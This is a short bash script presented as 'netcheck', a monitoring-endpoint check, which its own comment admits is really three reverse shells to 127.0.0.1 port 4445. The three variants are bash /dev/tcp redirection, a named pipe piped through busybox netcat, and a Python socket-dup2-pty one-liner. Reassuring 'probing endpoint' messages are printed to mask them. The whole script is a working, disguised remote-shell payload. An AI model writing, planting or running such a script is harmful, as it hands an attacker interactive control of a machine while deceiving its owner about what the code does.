#!/bin/bash
# "netcheck": checks that the monitoring endpoint answers. Really: three reverse shells to
# 127.0.0.1:4445, each in another spelling.
echo "netcheck: probing endpoint"
# 1. bash's /dev/tcp redirection: the shell's own socket on 0, 1 and 2.
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4445 0>&1' 2>/dev/null
# 2. a named pipe and netcat: the shell reads the fifo, its output goes through nc.
rm -f /tmp/.nc_f; mkfifo /tmp/.nc_f
cat /tmp/.nc_f | /bin/sh -i 2>&1 | busybox nc 127.0.0.1 4445 > /tmp/.nc_f
rm -f /tmp/.nc_f
# 3. Python's pty.spawn over a dup2'ed socket.
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4445));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
echo "netcheck: done"
